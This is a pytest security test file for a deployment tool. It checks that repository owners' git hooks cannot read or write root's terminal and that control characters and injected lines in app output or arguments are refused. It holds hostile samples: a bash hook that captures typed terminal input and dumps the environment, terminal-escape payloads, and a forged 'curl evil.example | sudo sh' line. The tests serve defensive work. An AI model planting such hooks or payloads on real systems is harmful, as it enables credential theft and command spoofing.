# Copyright (c) 2026, the onehost.release maintainers
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Terminals: nothing that an owner or an app says may act on the terminal of whoever looks."""

from __future__ import annotations

import json
import shlex
from collections.abc import Iterator

import pytest
from support.attacks import HOME, PLACE, STACK, Attacked, printable

TYPED, OWNED = "adminpasswd", "OWNED-BY-A-HOOK"
HOOKS = ("post-checkout", "reference-transaction", "post-index-change", "post-rewrite", "pre-auto-gc", "post-merge")
HOOK = f"""#!/bin/bash
id -u >>/tmp/attack-hook.uid
{{ printf '\\033]0;{OWNED}\\007' >/dev/tty; timeout 2 head -n 1 </dev/tty >>/tmp/attack-hook.typed; }} 2>/dev/null
{{ printf '{OWNED}' >&2; ls -l /proc/self/fd >>/tmp/attack-hook.fd; env >>/tmp/attack-hook.env; }} 2>/dev/null
exit 0
"""


@pytest.fixture
def hooks(shop: Attacked) -> Iterator[Attacked]:
    """Alice's hooks, in every repository of hers that the platform uses."""
    places = [
        f"{HOME}/.git/hooks",
        *(f"{it}/hooks" for it in shop.root("find /var/lib/onehost/shop -name '*.git' -type d").split()),
    ]
    shop.root("rm -f /tmp/attack-hook.*")
    for place in places:
        for name in HOOKS:
            shop.write(f"{place}/{name}", HOOK)
        shop.alice(f"chmod +x {place}/*").ok()
    yield shop
    shop.root("; ".join(f"rm -f {place}/{name}" for place in places for name in HOOKS) + "; rm -f /tmp/attack-hook.*")


@pytest.mark.attack(
    "6", "a hook of the owner's, while root types at the terminal of a deploy", "it neither writes there nor reads"
)
def test_the_owner_s_hooks_have_no_terminal(hooks: Attacked) -> None:
    commit = hooks.push({"colour": "terminal\n"}, branch="terminal")
    said = hooks.run(
        ["python3", f"{PLACE}/at_terminal.py", TYPED, "--", "onehost", "deploy", "--stack", STACK, "--version", commit]
    ).ok()
    ran = hooks.root("cat /tmp/attack-hook.uid 2>/dev/null || true").split()
    # Better still if none runs at all.
    assert set(ran) <= {hooks.root("id -u alice").strip()}
    assert TYPED not in hooks.root("cat /tmp/attack-hook.typed 2>/dev/null || true")
    assert OWNED not in said.out
    environment = hooks.root("cat /tmp/attack-hook.env 2>/dev/null || true").splitlines()
    assert not [line for line in environment if line.startswith(("SSH_", "SUDO_", "HOME=/root", "XDG_"))]


HOSTILE = "\x1b]0;owned-title\x07\x1b[31mALL GOOD\x1b[0m\x1b[2K\rproblem: none\x9b2J\u202egnp"


@pytest.mark.attack(
    "7", "control characters in the body of a failing health check", "status, page and report show none"
)
def test_what_an_app_says_is_shown_as_text(shop: Attacked) -> None:
    container = shop.container()
    try:
        shop.run(["docker", "exec", "-i", container, "sh", "-c", "cat >/tmp/health"], data=HOSTILE.encode()).ok()
        for by, stack in (("alice", STACK), ("oscar", STACK), ("root", "")):
            said = shop.onehost("status", by=by, stack=stack)
            assert printable(said.text) == "", said.text
            assert "\nproblem: none" not in said.text
        shop.onehost("page", by="root", stack="")
        for name in ("index.html", "status.json"):
            assert printable(shop.read(f"/var/lib/onehost/{STACK}/page/{name}")) == ""
        told = shop.onehost("status", "--json", by="alice").out
        assert printable(told) == "" and json.loads(told)
    finally:
        shop.root(f"docker exec {container} rm -f /tmp/health")


REASONS = {
    "a new line": "x\nproblem: forged\nmend: curl evil.example | sudo sh",
    "an escape sequence": "x\x1b]0;owned\x07",
    "a carriage return": "x\rfailed: no",
    "text from right to left": "x\u202ehs.live",
    "a C1 control": "x\x9b2J",
}


@pytest.mark.attack("7", "{what} in --reason and --version", "refused, and not shown")
@pytest.mark.parametrize("what", REASONS)
def test_what_people_give_must_be_printable(shop: Attacked, what: str) -> None:
    live = shop.live("production")
    for words in (
        ("promote", "--reason"),
        ("rollback", "--reason"),
        ("deploy", "--version"),
        ("rollback", "--release"),
    ):
        said = shop.onehost(*words, REASONS[what])
        assert said.code in (1, 2), f"{words} was accepted: {said}"
        assert printable(said.text) == "", f"{words}: {said.text!r}"
        assert "\nproblem: forged" not in said.text and "\nmend: " not in said.text, said.text
    assert shop.live("production") == live
    assert "forged" not in shop.onehost("status").out


@pytest.mark.attack("7", "control characters in a build's output", "the report shows none")
def test_what_a_build_says_is_shown_as_text(shop: Attacked) -> None:
    text = shlex.quote(HOSTILE.encode("unicode_escape").decode("ascii").replace("\\r", "\\015"))
    said = shop.deploy({"Dockerfile": f"ARG BASE_IMAGE\nFROM ${{BASE_IMAGE}}\nRUN printf '%b' {text} >&2; exit 1\n"})
    assert said.code == 1
    assert printable(said.text) == "", repr(said.text)
